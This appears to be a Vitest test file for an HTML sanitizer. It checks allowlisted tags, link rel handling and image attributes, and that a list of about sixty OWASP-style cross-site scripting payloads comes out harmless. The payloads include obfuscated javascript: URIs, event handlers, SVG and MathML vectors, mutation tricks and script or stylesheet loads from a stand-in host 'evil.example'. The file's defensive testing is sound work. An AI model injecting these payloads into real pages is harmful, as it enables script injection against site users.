import { describe, expect, it } from 'vitest';
import { ALLOWED_TAGS, sanitizeHtml } from './sanitize-html';

const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'width', 'height'],
};

/** Tags of serialized HTML with their attributes (the serializer escapes `<` in text and `"` in values). */
function tagsOf(html: string): Array<{ tag: string; attributes: Record<string, string> }> {
  const tags: Array<{ tag: string; attributes: Record<string, string> }> = [];
  for (const match of html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)) {
    const attributes: Record<string, string> = {};
    for (const attribute of (match[2] ?? '').matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      attributes[(attribute[1] as string).toLowerCase()] = attribute[2] ?? '';
    }
    tags.push({ tag: (match[1] as string).toLowerCase(), attributes });
  }
  return tags;
}

/** What in sanitized HTML could run script or load something it should not; empty when nothing. */
function dangers(html: string): string[] {
  const found: string[] = [];
  if (/<!--|<!\[CDATA\[|<\?/i.test(html)) found.push('a comment or processing instruction');
  for (const { tag, attributes } of tagsOf(html)) {
    if (!ALLOWED_TAGS.includes(tag)) found.push(`<${tag}>`);
    for (const [name, value] of Object.entries(attributes)) {
      if (!(ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)) found.push(`${tag}[${name}]`);
      if (name === 'href' || name === 'src') {
        const decoded = value.replace(/&amp;/g, '&').replace(/&quot;/g, '"');
        if (!/^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|[a-z0-9._~-]+(?:[/?#]|$)|[?#])/i.test(decoded)) {
          found.push(`${tag}[${name}="${value}"]`);
        }
      }
    }
  }
  return found;
}

/** OWASP-style payloads: each must come out with nothing script-capable left. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="DaTa:image/png;base64,iVBORw0KGgo=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#32;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<a href="/ok" onmouseover="alert(1)" style="position:fixed">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form><button formaction="javascript:alert(1)">go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<script>alert(1)',
  '<p>unclosed <a href="javascript:alert(1)">link',
  '<img src=x onerror="alert(1)"',
  '<!--<script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a href="https://example.com" target="_blank" rel="opener">x</a>',
  '<img src="/x.png" srcset="javascript:alert(1) 1x">',
  '<div onclick="alert(1)"><span>text</span></div>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
];

describe('sanitizeHtml', () => {
  it.each(PAYLOADS)('leaves nothing script-capable of %j', (payload) => {
    const clean = sanitizeHtml(payload);
    expect(dangers(clean), clean).toEqual([]);
    expect(clean).not.toMatch(/<script|<style|<svg|<math|<iframe|<object|<embed|<form|\son[a-z]+=|javascript:|vbscript:|data:/i);
    // Stored HTML is final: cleaning it again changes nothing.
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it('keeps the allowlisted elements and attributes an editor writes', () => {
    const html =
      '<h2>Breathe</h2><h3>In</h3><h4>Out</h4><p>Some <strong>strong</strong> and <em>soft</em> words.<br />More.</p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quiet</blockquote><pre><code>x</code></pre><hr />' +
      '<figure><img src="/images/journal/breathing.svg" alt="A calm sea" width="640" height="360" /><figcaption>Sea</figcaption></figure>' +
      '<p><a href="/journal/b/breathing-at-your-desk/" title="Read">site</a> <a href="mailto:hello@example.com">mail</a> <a href="tel:+31201234567">call</a></p>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('marks external links noopener noreferrer and drops the editor’s own rel and target', () => {
    expect(sanitizeHtml('<a href="https://example.com/a?b=1&amp;c=2" rel="opener" target="_blank">x</a>')).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="HTTP://example.com">x</a>')).toBe(
      '<a href="HTTP://example.com" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="/about" rel="nofollow">x</a>')).toBe('<a href="/about">x</a>');
  });

  it('drops what is outside the allowlist but keeps its text, except script-like elements', () => {
    expect(sanitizeHtml('<h1>Title</h1><div class="x"><span style="color:red">text</span></div>')).toBe('Titletext');
    expect(sanitizeHtml('<p>a<script>alert(1)</script>b<style>p{}</style>c<svg><text>d</text></svg>e</p>')).toBe('<p>abce</p>');
    expect(sanitizeHtml('<p>a<!-- hidden -->b</p>')).toBe('<p>ab</p>');
  });

  it('keeps only pixel sizes on images, and drops images without a safe address', () => {
    expect(sanitizeHtml('<img src="https://cdn.example/a.png" alt="" width="100%" height="20">')).toBe(
      '<img src="https://cdn.example/a.png" alt="" height="20" />',
    );
    expect(sanitizeHtml('<p><img src="data:image/png;base64,AAAA" alt="x">after</p>')).toBe('<p>after</p>');
    expect(sanitizeHtml('<p><img src="mailto:a@b.c">after</p>')).toBe('<p>after</p>');
  });

  it('escapes text that looks like markup', () => {
    expect(sanitizeHtml('<p>1 &lt; 2 &amp;&amp; "quotes"</p>')).toBe('<p>1 &lt; 2 &amp;&amp; "quotes"</p>');
  });
});
